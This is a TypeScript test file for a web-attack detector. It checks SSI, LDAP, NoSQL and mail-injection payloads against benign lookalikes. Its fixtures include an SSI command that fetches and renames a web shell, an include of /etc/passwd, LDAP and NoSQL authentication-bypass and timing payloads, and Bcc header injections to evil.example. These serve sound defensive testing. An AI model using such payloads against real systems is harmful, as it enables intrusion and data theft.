import { describe } from 'vitest';
import { detectLdap } from '../../src/detect/ldap/index.ts';
import { detectMailInjection } from '../../src/detect/mail/index.ts';
import { detectNosql } from '../../src/detect/nosql/index.ts';
import { detectSsi } from '../../src/detect/ssi/index.ts';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('SSI detector', () => {
  checkAttacks(detectSsi, 'ssi', [
    { value: '<!--#exec cmd="ls" -->' },
    { value: '<!--#exec cmd="wget http://x/shell.txt | rename shell.txt shell.php"-->' },
    { value: 'x<!--#include virtual="/etc/passwd" -->' },
    { value: '<!--#include file="../../web.config"-->' },
    { value: '<!-- #exec cmd="id" -->' },
    { value: '<!--#printenv -->' },
    { value: '<!--#echo var="DATE_LOCAL" -->', severity: 1 },
  ]);
  checkBenign(detectSsi, [
    { value: '<!-- a comment -->', location: 'body' },
    { value: '<!--[if IE]><p>old</p><![endif]-->', location: 'body' },
    { value: 'issue #exec in tracker' },
  ]);
  checkRobust(detectSsi);
});

describe('LDAP detector', () => {
  checkAttacks(detectLdap, 'ldap', [
    { value: '(&(uid=admin)(!(&(1=0)(userPassword=q))))', rule: 'ldap.filter_injection' },
    { value: '*(|(objectclass=*))' },
    { value: '*)(uid=*))(|(uid=*' },
    { value: 'admin)(&)' },
    { value: 'admin)(|(password=*)' },
    { value: 'x)(cn=*' },
    { value: 'userPassword:2.5.13.18:=123', rule: 'ldap.extensible_match' },
    { value: 'cn:dn:2.5.13.5:=admin' },
    { value: '(uid=*)', severity: 1 },
    // Closing the application's filter, then an operator (CRS 921200)
    { value: 'eb9adbd87d)!(sn=*' },
    { value: 'admin)(|' },
    { value: 'val)&(cn=admin' },
    { value: 'test) ( & ' },
  ]);
  checkBenign(detectLdap, [
    { value: '(see above)(and below)' },
    { value: 'f(x)=2 and g(y)=3' },
    { value: 'x=1 (approx)' },
    { value: 'Smith (John)' },
    { value: 'a=b' },
    { value: '*' },
    { value: 'I would like to request the bin with app_id: (]' },
    // Whole filters an LDAP admin tool posts: Active Directory's bit-mask rule, a SID lookup
    { value: '(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))' },
    { value: '(objectSID=S-1-5-21-73586283-152049171-839522115-1111)' },
    { value: 'Call me (maybe) today' },
  ]);
  checkRobust(detectLdap);
});

describe('NoSQL detector', () => {
  checkAttacks(detectNosql, 'nosql', [
    { value: 'password[$ne]', location: 'query_name', rule: 'nosql.operator_key' },
    { value: 'user[$regex]', location: 'body_name' },
    { value: '$where', location: 'body_name' },
    { value: 'filter.$gt', location: 'body_name' },
    { value: 'filters[title][$eq]', location: 'query_name', severity: 1 },
    { value: '{"$ne": null}', rule: 'nosql.operator_in_value' },
    { value: '{"username": {"$gt": ""}}', location: 'raw_body' },
    { value: "true, $where: '99 == 88'" },
    { value: "', $or: [ {}, { 'order':'order" },
    { value: "{$where: 'sleep(5000)'}" },
    { value: 'db.injection.insert({success:1});', rule: 'nosql.mongo_shell' },
    { value: "db.users.find({})" },
    { value: ';var date = new Date(); do{curDate = new Date();}while(curDate-date<10000)', rule: 'nosql.javascript' },
    { value: "'; return this.password.match(/^a/) ; var x='" },
    { value: "1; sleep(5000); var a=1", location: 'body' },
  ]);
  checkBenign(detectNosql, [
    { value: 'costs $5 or $10' },
    { value: '{"$schema":"http://json-schema.org/draft-07/schema#","$id":"x","$ref":"#/a"}', location: 'raw_body' },
    { value: '$comment', location: 'body_name' },
    { value: 'price$', location: 'query_name' },
    { value: 'I paid $gt 5' },
    { value: 'while (x) { wait; }', location: 'body' },
    { value: 'The $or operator is documented on the Mongo site.', location: 'body' },
    { value: 'DELETE 75oBC$' },
    { value: 'var x = new Date();\nwhile (busy) {\n  do { tick(); } while (x);\n}', location: 'body', below: 2 },
  ]);
  checkRobust(detectNosql);
});

describe('Mail injection detector', () => {
  checkAttacks(detectMailInjection, 'mail_injection', [
    { value: '\r\nV100 CAPABILITY\r\nV101 FETCH 4791', rule: 'mail.imap_command' },
    { value: '\r\nQUIT\r\n', rule: 'mail.smtp_command' },
    { value: '\nRCPT TO: test@evil.example\n' },
    { value: 'x@y.example\r\nBcc: a@evil.example', rule: 'mail.header_injection' },
    { value: 'x@y.example\nCc: a@evil.example' },
    { value: 'Hello\r\nTo: victim@example.com', location: 'query' },
    { value: 'sam@example.com%0ABcc:a@evil' .replace('%0A', '\n') },
    { value: '\r\nQUIT\r\n', location: 'body' },
    { value: 'hi\r\nMAIL FROM:<a@evil>', location: 'body' },
  ]);
  checkBenign(detectMailInjection, [
    { value: 'sam@example.com' },
    { value: 'john+or@var.es' },
    { value: 'Dear Sam,\nTo: the team\nthanks', location: 'body' },
    { value: 'hello\nquit smoking', location: 'body' },
    { value: 'line 1\nline 2', location: 'query' },
    { value: 'Status:\nall good', location: 'body' },
  ]);
  checkRobust(detectMailInjection);
});

describe('Mail injection detector: POP3, lower-case IMAP and XML values', () => {
  checkAttacks(detectMailInjection, 'mail_injection', [
    { value: '\r\nRETR 123', rule: 'mail.pop3_command' },
    { value: '\r\nlist 3', rule: 'mail.pop3_command' },
    { value: '\r\nTOP 1 2', rule: 'mail.pop3_command' },
    { value: '\r\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891', rule: 'mail.pop3_command' },
    { value: '\r\nHELP Postmaster', rule: 'mail.smtp_command' },
    { value: '\r\na001 authenticate PLAIN\r\n', location: 'body', rule: 'mail.imap_command' },
    { value: '\r\nd store 2 +FLAGS (\\Deleted)\n', location: 'body', rule: 'mail.imap_command' },
    { value: '\r\nA1 QUIT', location: 'xml', rule: 'mail.imap_command' },
    { value: '\r\nRETR 123', location: 'xml' },
    { value: '\r\nMAIL FROM:<a@b.example>', location: 'xml' },
  ]);
  checkBenign(detectMailInjection, [
    { value: "\nLet's go to the store (sale time!)\n", location: 'body' },
    { value: '\nSeriously, noop' },
    { value: '\nI copy 2 files today', location: 'body' },
    { value: '\nWe list "things" here', location: 'body' },
    { value: 'Shopping:\nlist 3\nmilk', location: 'body' },
    { value: 'Hi team\nHELP NEEDED\nthanks', location: 'body' },
    { value: 'This text is a way of list 3 things\n', location: 'body' },
    // XML text between elements: indented lines are layout, not an injected line
    { value: '\n    HELP wanted\n  ', location: 'xml' },
    { value: '\n  DATA\n', location: 'xml' },
  ]);
});
